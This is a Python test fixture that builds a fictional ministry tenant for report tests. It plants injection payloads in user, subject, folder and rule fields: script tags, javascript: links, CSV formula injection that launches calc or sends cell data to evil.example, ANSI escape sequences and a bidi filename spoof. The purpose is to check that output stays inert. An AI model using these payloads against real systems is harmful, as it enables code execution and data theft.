"""The hand-made tenant of the report tests: people, the actor, and planted hostile strings.

Hostile strings (HTML, script, ``javascript:`` links, spreadsheet formulas, ANSI escapes,
bidi overrides) go into user agents, subjects, UPNs, rule names, folders and paths; tests
check each stays inert in every output.
"""

from __future__ import annotations

from datetime import datetime

import duckdb
import pyarrow as pa

EAP = "Bureau of East Asian and Pacific Affairs"
EUR = "Bureau of European Affairs"
HOSTILE_DEPT = "<b>Bureau</b> of <script>alert('dept')</script>"
HOSTILE_UPN = "=cmd|' /c calc'!a0@ministry.example"
HOSTILE_UA = "\x1b[31mEvilAgent\x1b[0m <script>alert('ua')</script>"
HOSTILE_SUBJECTS = (
    "<script>alert('subject')</script>",
    '<a href="javascript:alert(1)">click me</a>',
    "<img src=http://evil.example/pixel.png onerror=alert(2)>",
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b]8;;http://evil.example\x07ANSI link\x1b]8;;\x07 \x1b[2J",
    "Invoice \u202egnp.exe",
)
HOSTILE_FOLDER = "Inbox/<i>Travel</i>\x1b[5m=1+1"
HOSTILE_RULE = '=HYPERLINK("http://evil.example","rule") <script>alert("rule")</script>'
# Every planted string; tests check each stays inert in every output.
HOSTILE = (HOSTILE_DEPT, HOSTILE_UPN, HOSTILE_UA, *HOSTILE_SUBJECTS, HOSTILE_FOLDER, HOSTILE_RULE)

ACTOR_IPS = ("203.0.113.7", "198.51.100.23", "2001:db8::66")
ACTOR_APP = "7d6f7f1b-2a1f-4d5b-9d2e-4c8f3a2b1e90"
ACTOR_SESSIONS = ("a1b2c3d4-0000-4000-8000-00000000aa01", "a1b2c3d4-0000-4000-8000-00000000aa02")
REST_UA = "Client=REST;Client=RESTSystem;;"
START = datetime(2023, 5, 15)
DAYS = 33

USERS = (
    ("ava.chen@ministry.example", "Ava Chen", EAP),
    ("ben.okafor@ministry.example", "Ben Okafor", EAP),
    ("clara.novak@ministry.example", "Clara Novak", EUR),
    (HOSTILE_UPN, "Mallory <svg onload=alert(3)>", HOSTILE_DEPT),
    ("dan.ruiz@ministry.example", "Dan Ruiz", "Bureau of Consular Affairs"),
    ("eve.mills@ministry.example", "Eve Mills", "Human Resources"),
    ("fay.ito@ministry.example", "Fay Ito", EAP),
    ("gus.berg@ministry.example", "Gus Berg", "Office of the Legal Adviser"),
)
VICTIMS = USERS[:4]


def insert_rows(
    connection: duckdb.DuckDBPyConnection, table: str, rows: list[dict[str, object]]
) -> None:
    """Insert dict rows through Arrow (``executemany`` is far too slow for 10 K rows)."""
    if not rows:
        return
    columns = list(rows[0])
    data = pa.Table.from_pylist(rows)
    connection.register("_incoming", data)
    names = ", ".join(columns)
    connection.execute(f"INSERT INTO {table} ({names}) SELECT {names} FROM _incoming")
    connection.unregister("_incoming")
